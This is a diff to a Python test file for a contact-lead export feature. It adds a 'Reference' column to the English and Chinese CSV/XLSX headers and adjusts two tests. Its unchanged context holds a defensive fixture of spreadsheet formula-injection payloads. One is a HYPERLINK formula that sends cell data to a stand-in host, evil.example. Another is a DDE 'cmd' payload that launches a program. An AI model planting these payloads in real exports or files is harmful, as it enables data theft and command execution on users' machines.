@@ -20,9 +20,9 @@ from ..conftest import login
 PHONE = "+86 139 1234 5678"
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 HEADER_EN = ["Name", "Company", "Job title", "Country", "Email", "Phone", "Category", "Rating", "Notes",
-             "First scanned", "Last scanned", "Scans"]
+             "First scanned", "Last scanned", "Scans", "Reference"]
 HEADER_ZH = ["姓名", "公司", "职位", "国家/地区", "电子邮箱", "电话", "类别", "意向评级", "备注",
-             "首次扫描时间", "最近扫描时间", "扫描次数"]
+             "首次扫描时间", "最近扫描时间", "扫描次数", "外部编号"]  # Reference: the lead's id in an imported file
 FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&A2,"click")', "company": "+cmd|' /C calc'!A0",
             "job_title": "-2+3", "notes": "@SUM(A1:A9)"}
 
@@ -85,7 +85,7 @@ def test_csv_speaks_the_users_language(client, booth, lang, header, buyer, hot, 
     rows = read_csv(download(client, booth, "csv", lang))
     assert rows[0] == header
     row = next(dict(zip(header, r)) for r in rows[1:] if r[0] == "王小明")
-    name, company, job, country, email, phone, category, rating, notes, first, last, scans = header
+    name, company, job, country, email, phone, category, rating, notes, first, last, scans, _reference = header
     assert row[company] == "佛山金雅家居有限公司" and row[job] == "采购经理"
     assert row[notes] == "对办公家具很感兴趣，下周回访"
     assert (row[category], row[rating], row[country]) == (buyer, hot, china)
@@ -123,7 +123,7 @@ def test_xlsx_speaks_the_users_language_with_typed_cells(client, booth, lang, he
     assert sheet.freeze_panes == "A2"
     cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "王小明")
     row = {h: c for h, c in zip(header, cells)}
-    name, company, job, country, email, phone, category, rating, notes, first, last, scans = header
+    name, company, job, country, email, phone, category, rating, notes, first, last, scans, _reference = header
     assert row[company].value == "佛山金雅家居有限公司" and row[notes].value == "对办公家具很感兴趣，下周回访"
     assert (row[category].value, row[rating].value, row[country].value) == (buyer, hot, china)
     # Text is a text cell in text format; the phone as written, no apostrophe, not a number.
